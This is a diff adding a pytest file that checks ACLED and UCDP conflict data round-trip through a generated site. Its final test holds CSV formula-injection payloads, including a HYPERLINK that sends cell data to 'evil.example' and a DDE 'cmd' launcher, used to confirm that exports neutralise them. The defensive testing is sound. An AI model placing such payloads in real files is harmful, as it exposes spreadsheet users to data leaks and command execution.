@@ -1,0 +1,326 @@
+"""What ACLED and UCDP say survives a round trip through a built site, tried against the codebooks.
+
+The files are generated (tests/codebook_files.py) to use every code and quirk the codebooks allow.
+ACLED: import -> ``mkdocs build --strict`` -> import the site's ``data/incidents-acled.csv`` ->
+export again: every one of the 31 columns is equal to the original file's, except the ones
+docs/importing.md lists with the reason (coordinates are compared as numbers). UCDP: import ->
+build -> import the site's ``data/data.json`` -> every one of GED's 49 columns is read back from
+the records and compared with the original row. Then what the values mean: actor kinds, sides,
+unidentified actors, placeholder fatalities, origins, deaths by side.
+"""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+from typing import Any
+
+import pytest
+from codebook_files import COLUMNS_31, COLUMNS_49, acled_rows, ged_rows, read_csv, write_csv
+
+from conftest import BASE_FIXTURE, exports, mkdocs_build, records, run_cli
+from generator.formats import spreadsheet
+from generator.importers import import_file
+from generator.load.dataset import Dataset
+from generator.model.records import Incident
+
+NUMERIC_COLUMNS = ("latitude", "longitude")
+"""Compared as numbers: ``36.6000`` is written back as ``36.6``."""
+
+
+def _project(root: Path) -> Path:
+    (root / "docs" / "briefings").mkdir(parents=True)
+    shutil.copy2(BASE_FIXTURE / "mkdocs.yml", root / "mkdocs.yml")
+    (root / "docs" / "briefings" / "notes.md").write_text("# Field notes\n\nImported data.\n", encoding="utf-8")
+    return root
+
+
+def _built(project: Path, dataset: str, file: Path) -> Path:
+    """Import ``file`` with the command line and build the site strictly; the site folder."""
+    imported = run_cli(project, "import", dataset, str(file))
+    assert imported.returncode == 0, imported.stderr
+    build = mkdocs_build(project)
+    assert build.returncode == 0, build.stderr
+    return project / "site"
+
+
+def _same_cell(column: str, before: str, after: str) -> bool:
+    after = spreadsheet.unescape(after)  # as every importer reads a cell (a formula-like text is quoted)
+    if column in NUMERIC_COLUMNS and before and after:
+        return float(before) == float(after)
+    return before == after
+
+
+# --- ACLED: every column, both variants ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("variant", ["numeric", "labels"])
+def test_every_acled_column_comes_back_from_a_built_sites_export(tmp_path: Path, variant: str) -> None:
+    rows = acled_rows(variant)
+    original = write_csv(tmp_path / f"acled-{variant}.csv", rows, COLUMNS_31)
+    site = _built(_project(tmp_path / "first"), "acled", original)
+    exported = site / "data" / "incidents-acled.csv"
+
+    second = _project(tmp_path / "second")
+    again = run_cli(second, "import", "acled", str(exported))
+    assert again.returncode == 0, again.stderr
+    assert "rejected" in again.stderr and ", 0 rows rejected" in again.stderr
+    back = {row["event_id_cnty"]: row for row in read_csv(exported)}
+    assert list(read_csv(exported)[0]) == list(COLUMNS_31)
+    for row in rows:
+        out = back[row["event_id_cnty"]]
+        differing = [c for c in COLUMNS_31 if not _same_cell(c, row[c], out[c])]
+        assert differing == [], (row["event_id_cnty"], {c: (row[c], out[c]) for c in differing})
+
+    # and the second project's own export is the same file: nothing drifts on a second trip
+    assert exports(second)["data/incidents-acled.csv"] == exported.read_bytes()
+
+
+def _acled(tmp_path: Path, variant: str = "labels") -> tuple[Dataset, list[dict[str, str]]]:
+    rows = acled_rows(variant)
+    project = tmp_path / "project"
+    report = import_file("acled", write_csv(tmp_path / "acled.csv", rows, COLUMNS_31), project / "seeds", project)
+    assert not report.rejected
+    return records(project), rows
+
+
+def test_acled_meanings_survive_the_import(tmp_path: Path) -> None:
+    data, rows = _acled(tmp_path)
+
+    def incident(number: int) -> Incident:
+        return data.incidents[f"acled-syr{number:04d}"].record
+
+    def parts(number: int) -> list[tuple[str | None, str | None]]:
+        return [(p.actor, p.side) for p in incident(number).participants]
+
+    # first seen as an associate without a code, then coded twice as a political militia
+    assert data.actors["ndf-national-defence-forces"].record.kind == "militia"
+    assert parts(1) == [
+        ("military-forces-of-syria-2000", "a"),
+        ("ndf-national-defence-forces", "a"),
+        ("hayat-tahrir-al-sham", "b"),
+        ("nlf-national-liberation-front", "b"),
+    ]
+    # one actor alone has no side; the same actor on both sides; two unidentified sides
+    assert parts(4) == [("military-forces-of-syria-2000", None)]
+    same = next(r for r in rows if r["actor1"] == r["actor2"] == "Hayat Tahrir al-Sham")
+    assert parts(int(same["event_id_cnty"][3:])) == [("hayat-tahrir-al-sham", "a"), ("hayat-tahrir-al-sham", "b")]
+    unidentified = next(r for r in rows if r["actor1"] == r["actor2"] == "Unidentified Armed Group (Syria)")
+    both = incident(int(unidentified["event_id_cnty"][3:])).participants
+    assert [(p.actor, p.side, p.note) for p in both] == [
+        (None, "a", "Unidentified Armed Group (Syria)"),
+        (None, "b", "Unidentified Armed Group (Syria)"),
+    ]
+    specific = next(r for r in rows if r["actor1"].startswith("Unidentified Tribal"))
+    assert incident(int(specific["event_id_cnty"][3:])).participants[0].note == specific["actor1"]
+    # placeholder fatalities say so; an ordinary number has no note
+    placeholders = {r["fatalities"]: r for r in rows if r["fatalities"] in ("10", "12", "100")}
+    notes = {n: incident(int(r["event_id_cnty"][3:])).fatalities for n, r in placeholders.items()}
+    assert {n: f.note if f else None for n, f in notes.items()} == {
+        "10": "ACLED codes 'several' as 10: the reports give no number",
+        "12": "ACLED codes 'dozens' as 12: the reports give no number",
+        "100": "ACLED codes 'hundreds' as 100: the reports give no number",
+    }
+    # geo_precision 3: the event is somewhere in the region, not in the town whose coordinates ACLED used
+    region = next(r for r in rows if r["geo_precision"] == "3")
+    event = incident(int(region["event_id_cnty"][3:]))
+    assert event.location_precision == "region" and data.places[event.place].record.kind == "district"
+    assert event.dataset and event.dataset.acled and event.dataset.acled.location == region["location"]
+    # several sources, their scale and the tags are kept
+    scaled = next(r for r in rows if "-" in r["source_scale"])
+    event = incident(int(scaled["event_id_cnty"][3:]))
+    assert [data.sources[c.source].record.name for c in event.citations[:-1]] == scaled["source"].split("; ")
+    assert event.dataset and event.dataset.acled
+    assert (event.dataset.acled.source_scale, event.dataset.acled.tags) == (
+        scaled["source_scale"],
+        scaled["tags"].split("; "),
+    )
+
+
+def test_a_changed_acled_timestamp_updates_the_record_and_its_export(tmp_path: Path) -> None:
+    rows = acled_rows("labels")
+    project = tmp_path / "project"
+    import_file("acled", write_csv(tmp_path / "v1.csv", rows, COLUMNS_31), project / "seeds", project)
+    rows[4]["timestamp"] = str(int(rows[4]["timestamp"]) + 3600)
+    rows[4]["fatalities"] = "3"
+    report = import_file("acled", write_csv(tmp_path / "v2.csv", rows, COLUMNS_31), project / "seeds", project)
+    assert report.updated == [f"seeds/incidents/acled-{rows[4]['event_id_cnty'].lower()}.yaml"]
+    exported = {r["event_id_cnty"]: r for r in read_csv_bytes(exports(project)["data/incidents-acled.csv"])}
+    assert exported[rows[4]["event_id_cnty"]]["timestamp"] == rows[4]["timestamp"]
+    assert exported[rows[4]["event_id_cnty"]]["fatalities"] == "3"
+    assert exported[rows[3]["event_id_cnty"]]["timestamp"] == rows[3]["timestamp"]
+
+
+def read_csv_bytes(data: bytes) -> list[dict[str, str]]:
+    """Rows of CSV bytes by column name."""
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+# --- UCDP: every GED column, through data.json -------------------------------------------------------
+
+
+def ged_values(data: Dataset, incident: Incident) -> dict[str, str]:
+    """GED's 49 columns as the records hold them: where each column lives (docs/importing.md)."""
+    block = incident.dataset.ucdp if incident.dataset is not None else None
+    assert block is not None
+    chain = []
+    place: str | None = incident.place
+    while place is not None:
+        chain.append(data.places[place].record)
+        place = data.places[place].record.parent
+    by_kind = {p.kind: p.name for p in chain}
+    sides = {p.side: data.actors[p.actor].record.name for p in incident.participants if p.actor}
+    articles = [c for c in incident.citations if c.source != "ucdp-ged"]
+    offices = [data.sources[c.source].record.name for c in articles]
+    dates = [c.published.iso if c.published else "" for c in articles]
+    fatalities = incident.fatalities
+    assert fatalities is not None and fatalities.by_side is not None
+    low = block.low if block.low is not None else fatalities.low
+    high = block.high if block.high is not None else fatalities.high
+    coordinates = incident.coordinates
+    assert coordinates is not None
+    values: dict[str, Any] = {
+        "id": incident.external_ids["ucdp-ged"],
+        "relid": incident.external_ids.get("ucdp-ged-relid", ""),
+        "year": incident.date.start.year,
+        "side_a": sides.get("a", ""),
+        "side_b": sides.get("b", ""),
+        "source_article": ";".join(f'"{o},{d},{c.title}"' for o, d, c in zip(offices, dates, articles, strict=True)),
+        "source_office": ";".join(offices),
+        "source_date": ";".join(dates),
+        "source_headline": ";".join(c.title for c in articles),
+        "where_coordinates": data.places[incident.place].record.name,
+        "adm_1": by_kind.get("governorate", ""),
+        "adm_2": by_kind.get("district", ""),
+        "latitude": coordinates.lat,
+        "longitude": coordinates.lon,
+        "geom_wkt": f"POINT ({coordinates.lon} {coordinates.lat})",
+        "country": by_kind.get("country", ""),
+        "date_start": incident.date.start.isoformat(),
+        "date_end": incident.date.end.isoformat(),
+        "deaths_a": fatalities.by_side.a,
+        "deaths_b": fatalities.by_side.b,
+        "deaths_civilians": fatalities.by_side.civilians,
+        "deaths_unknown": fatalities.by_side.unknown,
+        "best": fatalities.best,
+        "low": low,
+        "high": high,
+    }
+    for column in COLUMNS_49:
+        if column not in values:
+            values[column] = getattr(block, column)
+    return {k: "" if v is None else str(v) for k, v in values.items()}
+
+
+def test_every_ged_column_comes_back_from_a_built_sites_data_json(tmp_path: Path) -> None:
+    rows = ged_rows()
+    original = write_csv(tmp_path / "ged.csv", rows, COLUMNS_49)
+    site = _built(_project(tmp_path / "first"), "ucdp", original)
+    second = _project(tmp_path / "second")
+    again = run_cli(second, "import", "briefing", str(site / "data" / "data.json"))
+    assert again.returncode == 0, again.stderr
+    data = records(second)
+    for row in rows:
+        incident = data.incidents[f"ucdp-{row['id']}"].record
+        values = ged_values(data, incident)
+        differing = [c for c in COLUMNS_49 if not _same_ged(c, row[c], values[c])]
+        assert differing == [], (row["id"], {c: (row[c], values[c]) for c in differing})
+
+
+def _same_ged(column: str, before: str, after: str) -> bool:
+    if column in (*NUMERIC_COLUMNS, "geom_wkt"):
+        return before.replace("POINT (", "").split() == after.replace("POINT (", "").split() or [
+            float(x.strip("()")) for x in before.replace("POINT (", "").split()
+        ] == [float(x.strip("()")) for x in after.replace("POINT (", "").split()]
+    return before == after
+
+
+def test_ged_meanings_survive_the_import(tmp_path: Path) -> None:
+    rows = ged_rows()
+    project = tmp_path / "project"
+    report = import_file("ucdp", write_csv(tmp_path / "ged.csv", rows, COLUMNS_49), project / "seeds", project)
+    data = records(project)
+    by_id = {row["id"]: row for row in rows}
+    warnings = [d.message for d in report.warnings]
+    # bounds on the wrong side of best and deaths by side that do not add up are reported
+    assert any("'low'" in w and "above 'best'" in w for w in warnings)
+    assert any("'high'" in w and "below 'best'" in w for w in warnings)
+    assert any("deaths by side add up to" in w for w in warnings)
+    for ged_id, row in by_id.items():
+        incident = data.incidents[f"ucdp-{ged_id}"].record
+        precision = {"1": "exact", "2": "near"}.get(row["where_prec"], "region")
+        assert incident.location_precision == precision
+        # the title says who, where and UCDP's best estimate, never a headline
+        assert incident.title.endswith(f": {row['best']} killed" if row["best"] != "0" else ": no one killed")
+        assert row["side_a"] in incident.title and all(c.title not in incident.title for c in incident.citations)
+        # an outlet that is not itself the original relays it; UCDP relays every original
+        originals = sorted(data.sources[s].record.name for s in incident.citations[-1].origin)
+        assert originals == sorted(n.strip() for n in row["source_original"].split(","))
+        bbc = next(c for c in incident.citations if data.sources[c.source].record.name == "BBC Monitoring")
+        assert sorted(data.sources[s].record.name for s in bbc.origin) == originals
+
+
+# --- CSV files a spreadsheet opens safely -------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
+
+
+def test_formula_like_text_is_inert_in_every_csv_cell_and_imports_back_as_written(project: Path) -> None:
+    source = project / "seeds" / "incidents" / "derik-standoff.yaml"
+    for number, text in enumerate(FORMULAS):
+        record = {
+            "id": f"hostile-{number}",
+            "title": text,
+            "date": "2020-06-05",
+            "event_type": "battles",
+            "place": "derik",
+            "participants": [{"actor": "russia", "role": "combatant", "side": "a", "note": text}],
+            "summary": text.strip() or "x",
+            "fatalities": {"best": 2, "note": text},
+            "citations": [{"source": "voa", "title": text, "quote": text}],
+        }
+        (source.parent / f"hostile-{number}.yaml").write_text(
+            __import__("json").dumps(record, ensure_ascii=False) + "\n", encoding="utf-8"
+        )
+    files = exports(project)
+    for uri in ("data/incidents.csv", "data/incidents-acled.csv"):
+        rows = read_csv_bytes(files[uri])
+        cells = [cell for row in rows for cell in row.values()]
+        risky = [c for c in cells if c.startswith(spreadsheet.TRIGGERS) and not _is_number(c)]
+        assert risky == [], (uri, risky)
+        titles = {row["id"]: row["title"] for row in rows} if uri == "data/incidents.csv" else {}
+        for number, text in enumerate(FORMULAS):
+            if titles:
+                assert spreadsheet.unescape(titles[f"hostile-{number}"]) == text
+                assert titles[f"hostile-{number}"] == ("'" + text if text.lstrip("'")[0] in "=+-@\t\r" else text)
+
+    # the ACLED importer reads the notes back exactly as they were written
+    exported = project / "acled.csv"
+    exported.write_bytes(files["data/incidents-acled.csv"])
+    other = project.parent / "other"
+    report = import_file("acled", exported, other / "seeds", other)
+    assert not report.rejected
+    summaries = {
+        entry.record.external_ids["acled"]: entry.record.summary for entry in records(other).incidents.values()
+    }
+    for number, text in enumerate(FORMULAS):
+        assert summaries[f"hostile-{number}"] == " ".join(text.split())
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
